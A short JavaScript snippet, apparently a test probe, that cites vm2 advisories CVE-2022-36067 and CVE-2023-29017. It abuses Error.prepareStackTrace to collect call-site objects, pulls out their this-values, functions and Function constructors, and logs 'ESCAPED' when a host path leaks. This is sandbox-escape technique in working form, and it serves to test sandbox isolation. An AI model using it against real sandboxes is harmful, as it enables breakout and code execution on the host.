// Error.prepareStackTrace gets call sites, and they have getThis and getFunction.
// advisory: CVE-2022-36067 (vm2), CVE-2023-29017 (vm2)
const sites = [];
Error.prepareStackTrace = (error, list) => { if (sites.length < 20) sites.push(...list); return list; };
new Error('x').stack;
try { null.x; } catch (error) { error.stack; }
Promise.reject(new Error('y')).catch((error) => { error.stack; });
setTimeout(() => {
  new Error('z').stack;
  for (const site of sites.slice(0, 4)) {
    for (const get of ['getThis', 'getFunction', 'getEvalOrigin', 'getFileName', 'getTypeName']) {
      try { const got = site[get](); reach(got, got?.constructor?.constructor); if (typeof got === 'string' && got.includes('/target/')) console.log('ESCAPED', got); } catch { /* absent */ }
    }
  }
}, 1);
